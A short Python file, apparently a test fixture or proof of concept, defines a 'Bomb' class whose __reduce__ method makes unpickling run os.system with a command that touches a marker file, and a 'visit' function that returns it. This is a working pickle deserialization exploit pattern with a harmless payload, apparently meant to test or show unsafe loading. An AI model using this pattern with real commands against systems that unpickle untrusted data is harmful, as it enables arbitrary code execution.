"""Returns an object that runs a command when unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/lincls-attack",)


def visit(w, b, x, y):
    return Bomb()
